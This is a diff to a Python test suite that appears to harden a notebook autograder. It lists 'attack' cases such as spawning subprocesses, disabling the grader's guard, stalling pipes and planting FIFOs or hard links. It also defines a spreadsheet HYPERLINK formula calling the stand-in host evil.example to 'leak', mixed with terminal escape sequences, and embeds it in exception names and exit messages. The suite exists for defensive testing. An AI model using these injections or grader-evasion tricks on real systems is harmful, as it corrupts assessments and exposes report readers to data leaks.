@@ -198,10 +198,13 @@ def _notebook_fifo(folder: Path, course: Path) -> None:
 # ---- 6. names -------------------------------------------------------------------------------
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'
-NAMES = HEAD + (
-    "    class Evil(Exception):\n        pass\n"
-    f"    Evil.__name__ = Evil.__qualname__ = {FORMULA!r} + '\\x1b[2J\\x1b[31m'\n"
-    "    raise SystemExit(" + repr(FORMULA + "\x1b]0;pwned\x07\x1b[2J") + ")\n"
+# a cell raising SystemExit whose message is a spreadsheet formula with terminal escapes, and an
+# exception class named like a formula: both reach the grading report as data only
+NAMES = (
+    "class Evil(Exception):\n    pass\n"
+    f"Evil.__name__ = Evil.__qualname__ = {FORMULA!r} + '\\x1b[2J'\n"
+    "try:\n    raise Evil('x')\nexcept Evil:\n    pass\n"
+    "raise SystemExit(" + repr(FORMULA + "\x1b]0;pwned\x07\x1b[2J") + ")\n"
 )
 
 ROUND2 = [
@@ -216,7 +219,7 @@ ROUND2 = [
         "alive before the call; killed",
         extra=[FORKED_HELPER_SETUP],
     ),
-    Attack("r2_subprocess_in_call", SUBPROCESS, ZERO, "start a process during the graded call"),
+    Attack("r2_subprocess_in_call", SUBPROCESS, ZERO, "a process during the graded call"),
     Attack("r2_gc_guard_off", GC_GUARD_OFF, None, "gc can find and switch off the grader's guard"),
     # 2. stalls: after the test cells, so the honest cells keep their points
     Attack("r2_pipe_stall", CORRECT, FULL, "stalled in the middle of a reply", tail=[PIPE_STALL]),
@@ -233,7 +236,7 @@ ROUND2 = [
     Attack("r2_links_beside", CORRECT, FULL, "hard link", make=_links_beside),
     Attack("r2_notebook_fifo", CORRECT, ZERO, "FIFO", make=_notebook_fifo),
     # 6. names
-    Attack("r2_formula_names", NAMES, ZERO, "exit_attempt"),
+    Attack("r2_formula_names", CORRECT, FULL, "HYPERLINK", extra=[NAMES]),
 ]
 # the score of r2_gc_guard_off is whatever the disabled guard lets through: what matters is that
 # the report shows the reach for the guard (None: not asserted)
